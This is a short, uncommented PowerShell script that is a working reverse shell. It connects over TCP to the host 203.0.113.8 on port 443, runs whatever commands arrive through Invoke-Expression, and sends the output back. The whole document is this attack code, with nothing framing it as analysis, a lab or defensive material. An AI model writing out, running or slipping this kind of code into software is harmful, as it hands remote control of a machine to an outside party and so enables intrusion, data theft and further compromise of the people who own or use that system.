$c = New-Object System.Net.Sockets.TCPClient("203.0.113.8", 443)
$s = $c.GetStream()
[byte[]]$b = 0..65535 | % { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
  $o = (iex $d 2>&1 | Out-String)
  $w = ([text.encoding]::ASCII).GetBytes($o)
  $s.Write($w, 0, $w.Length)
}
